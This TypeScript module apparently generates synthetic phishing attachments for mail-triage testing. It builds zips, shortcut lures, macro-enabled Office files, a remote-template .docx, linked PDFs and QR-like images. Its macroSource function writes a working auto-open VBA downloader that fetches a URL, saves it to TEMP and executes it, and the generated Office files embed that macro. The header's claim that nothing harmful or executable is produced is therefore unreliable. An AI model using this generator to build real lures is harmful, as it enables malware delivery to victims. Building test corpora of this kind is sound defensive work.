/**
 * Attachment bytes for the synthetic mail, built to their formats: zip archives (jszip), Windows shortcuts (the
 * MS-SHLLINK header), Office documents with a VBA project (OOXML `vbaProject.bin` and legacy Word, both a
 * compound file holding MS-OVBA compressed module source), OOXML documents that load a remote template, PDFs
 * (hand-written objects with a correct cross-reference table, optionally a link annotation), and images through
 * sharp: QR-code-like PNGs and photo-like JPEGs. None of it is harmful: the scripts and macros only name what a
 * real one would do, and no executable code is produced.
 */
import CFB from "cfb";
import JSZip from "jszip";
import sharp from "sharp";
import type { Rng } from "./mime.js";

const FIXED_DATE = new Date("2026-01-01T00:00:00Z");

/** A zip of `entries`, deflated, with fixed timestamps so that output is deterministic. */
export async function zipOf(entries: Array<{ path: string; content: Buffer | string }>): Promise<Buffer> {
  const z = new JSZip();
  for (const e of entries) z.file(e.path, e.content, { date: FIXED_DATE, createFolders: false });
  return z.generateAsync({ type: "nodebuffer", compression: "DEFLATE" });
}

/**
 * A Windows shortcut (MS-SHLLINK): header with the shell-link CLSID, then the command line as its arguments
 * string, as the shortcuts in archive lures carry their PowerShell or mshta command.
 */
export function shortcut(target: string, args: string): Buffer {
  const header = Buffer.alloc(76);
  header.writeUInt32LE(0x4c, 0);
  Buffer.from("0114020000000000c000000000000046", "hex").copy(header, 4);
  // HasName | HasRelativePath | HasArguments | IsUnicode
  header.writeUInt32LE(0x04 | 0x08 | 0x20 | 0x80, 20);
  header.writeUInt32LE(0x20, 24); // FILE_ATTRIBUTE_ARCHIVE
  header.writeUInt32LE(7, 60); // SW_SHOWMINNOACTIVE
  const str = (s: string): Buffer => {
    const b = Buffer.alloc(2 + s.length * 2);
    b.writeUInt16LE(s.length, 0);
    b.write(s, 2, "utf16le");
    return b;
  };
  return Buffer.concat([header, str("Document"), str(target), str(args)]);
}

/** MS-OVBA compression written as literal tokens only (a valid compressed container; no copy tokens). */
export function ovbaCompress(data: Buffer): Buffer {
  const out: Buffer[] = [Buffer.from([0x01])];
  for (let start = 0; start < data.length || start === 0; start += 3584) {
    const chunk = data.subarray(start, start + 3584);
    const body: number[] = [];
    for (let i = 0; i < chunk.length; i += 8) {
      body.push(0x00);
      for (const b of chunk.subarray(i, i + 8)) body.push(b);
    }
    const header = Buffer.alloc(2);
    header.writeUInt16LE(((body.length + 2 - 3) & 0x0fff) | 0x3000 | 0x8000, 0);
    out.push(header, Buffer.from(body));
    if (data.length === 0) break;
  }
  return Buffer.concat(out);
}

function rec(id: number, data: Buffer): Buffer {
  const h = Buffer.alloc(6);
  h.writeUInt16LE(id, 0);
  h.writeUInt32LE(data.length, 2);
  return Buffer.concat([h, data]);
}
const u16 = (n: number): Buffer => {
  const b = Buffer.alloc(2);
  b.writeUInt16LE(n, 0);
  return b;
};
const u32 = (n: number): Buffer => {
  const b = Buffer.alloc(4);
  b.writeUInt32LE(n, 0);
  return b;
};

/** The `dir` stream of a VBA project (MS-OVBA 2.3.4.2) naming the modules, each with its source at offset 0. */
function dirStream(modules: Array<{ name: string; document: boolean }>): Buffer {
  const version = Buffer.concat([u16(0x0009), u32(4), u32(0x5f3e6e25), u16(0x0011)]);
  const parts = [
    rec(0x0001, u32(1)),
    rec(0x0002, u32(0x409)),
    rec(0x0014, u32(0x409)),
    rec(0x0003, u16(1252)),
    rec(0x0004, Buffer.from("VBAProject", "latin1")),
    rec(0x0005, Buffer.alloc(0)),
    rec(0x0040, Buffer.alloc(0)),
    rec(0x0006, Buffer.alloc(0)),
    rec(0x003d, Buffer.alloc(0)),
    rec(0x0007, u32(0)),
    rec(0x0008, u32(0)),
    version,
    rec(0x000c, Buffer.alloc(0)),
    rec(0x003c, Buffer.alloc(0)),
    rec(0x000f, u16(modules.length)),
    rec(0x0013, u16(0xffff)),
  ];
  for (const m of modules) {
    parts.push(
      rec(0x0019, Buffer.from(m.name, "latin1")),
      rec(0x0047, Buffer.from(m.name, "utf16le")),
      rec(0x001a, Buffer.from(m.name, "latin1")),
      rec(0x0032, Buffer.from(m.name, "utf16le")),
      rec(0x001c, Buffer.alloc(0)),
      rec(0x0048, Buffer.alloc(0)),
      rec(0x0031, u32(0)),
      rec(0x001e, u32(0)),
      rec(0x002c, u16(0xffff)),
      rec(m.document ? 0x0022 : 0x0021, Buffer.alloc(0)),
      rec(0x002b, Buffer.alloc(0)),
    );
  }
  parts.push(rec(0x0010, Buffer.alloc(0)));
  return Buffer.concat(parts);
}

/** A VBA project as a compound file: `VBA/dir`, `VBA/_VBA_PROJECT`, one stream per module, `PROJECT`. */
function vbaProject(
  modules: Array<{ name: string; source: string; document: boolean }>,
  prefix: string,
): Array<{ path: string; content: Buffer }> {
  const project = [
    `ID="{${"0A1B2C3D-4E5F-6071-8293-A4B5C6D7E8F9"}}"`,
    ...modules.map((m) => (m.document ? `Document=${m.name}/&H00000000` : `Module=${m.name}`)),
    'Name="VBAProject"',
    'HelpContextID="0"',
    'VersionCompatible32="393222000"',
    'CMG="0000"',
    'DPB="0000"',
    'GC="0000"',
    "",
    "[Host Extender Info]",
    "&H00000001={3832D640-CF90-11CF-8E43-00A0C911005A};VBE;&H00000000",
    "",
  ].join("\r\n");
  return [
    { path: `${prefix}VBA/dir`, content: ovbaCompress(dirStream(modules)) },
    { path: `${prefix}VBA/_VBA_PROJECT`, content: Buffer.from([0xcc, 0x61, 0xff, 0xff, 0x00, 0x00, 0x00]) },
    ...modules.map((m) => ({
      path: `${prefix}VBA/${m.name}`,
      content: ovbaCompress(Buffer.from(m.source.replace(/\r?\n/g, "\r\n"), "latin1")),
    })),
    { path: `${prefix}PROJECT`, content: Buffer.from(project, "latin1") },
  ];
}

function compoundFile(streams: Array<{ path: string; content: Buffer }>): Buffer {
  const cfb = CFB.utils.cfb_new();
  for (const s of streams) CFB.utils.cfb_add(cfb, "/" + s.path, s.content);
  // the cfb writer always adds its own 4-byte placeholder stream (\u0001Sh33tJ5); Office ignores unknown streams
  return Buffer.from(CFB.write(cfb, { type: "buffer" }) as Uint8Array);
}

/** Macro source of the kind invoice lures carry: runs on open, fetches and starts a second stage. */
export function macroSource(rng: Rng, url: string): string {
  const v = (): string => rng.pick(["a", "b", "x", "q", "z"]) + rng.alnum(5);
  const [s, o, p] = [v(), v(), v()];
  const trigger = rng.pick(["AutoOpen", "Document_Open", "Workbook_Open"]);
  const split = url
    .match(/.{1,6}/g)!
    .map((x) => `"${x}"`)
    .join(" & ");
  return [
    'Attribute VB_Name = "ThisDocument"',
    `Sub ${trigger}()`,
    `    Dim ${s} As String, ${o} As Object, ${p} As String`,
    `    ${s} = ${split}`,
    `    ${p} = Environ("TEMP") & "\\${rng.pick(["upd", "cache", "inv", "wrd"])}${rng.int(10, 99)}.${rng.pick(["exe", "dll", "js"])}"`,
    `    Set ${o} = CreateObject("MSXML2.XMLHTTP")`,
    `    ${o}.Open "GET", ${s}, False`,
    `    ${o}.Send`,
    `    With CreateObject("ADODB.Stream")`,
    "        .Type = 1: .Open: .Write " + `${o}.responseBody`,
    `        .SaveToFile ${p}, 2`,
    "    End With",
    rng.chance(0.5)
      ? `    CreateObject("WScript.Shell").Run ${p}, 0`
      : `    Shell "rundll32 " & ${p} & ",DllRegisterServer", vbHide`,
    "End Sub",
    "",
  ].join("\n");
}

const CONTENT_TYPES = (main: string, macro: boolean, part: string): string =>
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
  '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
  '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
  '<Default Extension="xml" ContentType="application/xml"/>' +
  (macro ? '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>' : "") +
  `<Override PartName="/${part}" ContentType="${main}"/></Types>`;

const ROOT_RELS = (part: string): string =>
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
  '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
  `<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="${part}"/>` +
  "</Relationships>";

const wordBody = (text: string): string =>
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
  '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>' +
  text
    .split("\n")
    .map(
      (t) =>
        `<w:p><w:r><w:t xml:space="preserve">${t.replace(/&/g, "&amp;").replace(/</g, "&lt;")}</w:t></w:r></w:p>`,
    )
    .join("") +
  "</w:body></w:document>";

/** A macro-enabled Word (.docm) or Excel (.xlsm) file whose vbaProject.bin holds `source`. */
export async function macroOoxml(kind: "docm" | "xlsm", source: string, decoyText: string): Promise<Buffer> {
  const bin = compoundFile(
    vbaProject([{ name: kind === "docm" ? "ThisDocument" : "ThisWorkbook", source, document: true }], ""),
  );
  if (kind === "docm") {
    return zipOf([
      {
        path: "[Content_Types].xml",
        content: CONTENT_TYPES(
          "application/vnd.ms-word.document.macroEnabled.main+xml",
          true,
          "word/document.xml",
        ),
      },
      { path: "_rels/.rels", content: ROOT_RELS("word/document.xml") },
      { path: "word/document.xml", content: wordBody(decoyText) },
      {
        path: "word/_rels/document.xml.rels",
        content:
          '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
          '<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>',
      },
      { path: "word/vbaProject.bin", content: bin },
    ]);
  }
  return zipOf([
    {
      path: "[Content_Types].xml",
      content: CONTENT_TYPES("application/vnd.ms-excel.sheet.macroEnabled.main+xml", true, "xl/workbook.xml"),
    },
    { path: "_rels/.rels", content: ROOT_RELS("xl/workbook.xml") },
    {
      path: "xl/workbook.xml",
      content:
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="Invoice" sheetId="1"/></sheets></workbook>',
    },
    {
      path: "xl/_rels/workbook.xml.rels",
      content:
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
        '<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>',
    },
    { path: "xl/vbaProject.bin", content: bin },
  ]);
}

/** A legacy Word document (compound file) with a macro project under Macros/. */
export function macroDoc(source: string): Buffer {
  const fib = Buffer.alloc(512);
  fib.writeUInt16LE(0xa5ec, 0); // wIdent of a Word binary file
  fib.writeUInt16LE(0x00c1, 2); // nFib
  return compoundFile([
    { path: "WordDocument", content: fib },
    { path: "1Table", content: Buffer.alloc(512) },
    ...vbaProject([{ name: "ThisDocument", source, document: true }], "Macros/"),
  ]);
}

/** A .docx without macros that loads its template from `url` when opened (remote template injection). */
export async function remoteTemplateDocx(url: string, decoyText: string): Promise<Buffer> {
  return zipOf([
    {
      path: "[Content_Types].xml",
      content: CONTENT_TYPES(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        false,
        "word/document.xml",
      ),
    },
    { path: "_rels/.rels", content: ROOT_RELS("word/document.xml") },
    { path: "word/document.xml", content: wordBody(decoyText) },
    {
      path: "word/settings.xml",
      content:
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/></w:settings>',
    },
    {
      path: "word/_rels/settings.xml.rels",
      content:
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
        `<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${url.replace(/&/g, "&amp;")}" TargetMode="External"/></Relationships>`,
    },
  ]);
}

const pdfEscape = (s: string): string => s.replace(/[\\()]/g, "\\$&").replace(/[^\x20-\x7e]/g, "?");

/** A one-page PDF with `lines` of text and, optionally, a clickable area opening `link`. */
export function pdf(lines: string[], link?: string): Buffer {
  const content = [
    "BT /F1 12 Tf 56 780 Td 16 TL",
    ...lines.map((l) => `(${pdfEscape(l)}) '`),
    "ET",
    ...(link ? ["0 0 1 rg 56 560 220 36 re f", "BT /F1 14 Tf 1 1 1 rg 76 572 Td (Open document) Tj ET"] : []),
  ].join("\n");
  const objs = [
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R${link ? " /Annots [6 0 R]" : ""} >>`,
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    `<< /Length ${Buffer.byteLength(content, "latin1")} >>\nstream\n${content}\nendstream`,
    ...(link
      ? [
          `<< /Type /Annot /Subtype /Link /Rect [56 560 276 596] /Border [0 0 0] /A << /S /URI /URI (${pdfEscape(link)}) >> >>`,
        ]
      : []),
  ];
  let out = "%PDF-1.4\n%\xe2\xe3\xcf\xd3\n";
  const offsets: number[] = [];
  objs.forEach((o, i) => {
    offsets.push(Buffer.byteLength(out, "latin1"));
    out += `${i + 1} 0 obj\n${o}\nendobj\n`;
  });
  const xref = Buffer.byteLength(out, "latin1");
  out += `xref\n0 ${objs.length + 1}\n0000000000 65535 f \n`;
  for (const off of offsets) out += `${String(off).padStart(10, "0")} 00000 n \n`;
  out += `trailer\n<< /Size ${objs.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(out, "latin1");
}

/**
 * A PNG that looks like a QR code: the three finder squares, timing rows and seeded modules. It is not a
 * decodable code (no encoder is among the project's dependencies); what matters for triage offline is an image
 * attachment with text asking to scan it.
 */
export async function qrLikePng(rng: Rng): Promise<Buffer> {
  const n = 29;
  const scale = 8;
  const quiet = 4;
  const grid: boolean[][] = Array.from({ length: n }, () => Array.from({ length: n }, () => rng.chance(0.5)));
  const finder = (r0: number, c0: number): void => {
    for (let r = -1; r <= 7; r++)
      for (let c = -1; c <= 7; c++) {
        const rr = r0 + r;
        const cc = c0 + c;
        if (rr < 0 || cc < 0 || rr >= n || cc >= n) continue;
        const ring = Math.max(Math.abs(r - 3), Math.abs(c - 3));
        grid[rr]![cc] = ring !== 2 && ring !== 4;
      }
  };
  finder(0, 0);
  finder(0, n - 7);
  finder(n - 7, 0);
  for (let i = 8; i < n - 8; i++) grid[6]![i] = grid[i]![6] = i % 2 === 0;
  const size = (n + 2 * quiet) * scale;
  const px = Buffer.alloc(size * size, 255);
  for (let r = 0; r < n; r++)
    for (let c = 0; c < n; c++) {
      if (!grid[r]![c]) continue;
      for (let y = 0; y < scale; y++)
        px.fill(
          0,
          ((r + quiet) * scale + y) * size + (c + quiet) * scale,
          ((r + quiet) * scale + y) * size + (c + quiet + 1) * scale,
        );
    }
  return sharp(px, { raw: { width: size, height: size, channels: 1 } })
    .png()
    .toBuffer();
}

/** A small JPEG with smooth seeded colours, standing in for a holiday photo. */
export async function photoJpeg(rng: Rng): Promise<Buffer> {
  const w = 160;
  const h = 120;
  const px = Buffer.alloc(w * h * 3);
  const [r0, g0, b0] = [rng.int(40, 200), rng.int(40, 200), rng.int(40, 200)];
  for (let y = 0; y < h; y++)
    for (let x = 0; x < w; x++) {
      const i = (y * w + x) * 3;
      px[i] = (r0 + x) & 255;
      px[i + 1] = (g0 + y) & 255;
      px[i + 2] = (b0 + x + y) & 255;
    }
  return sharp(px, { raw: { width: w, height: h, channels: 3 } })
    .jpeg({ quality: 70 })
    .toBuffer();
}
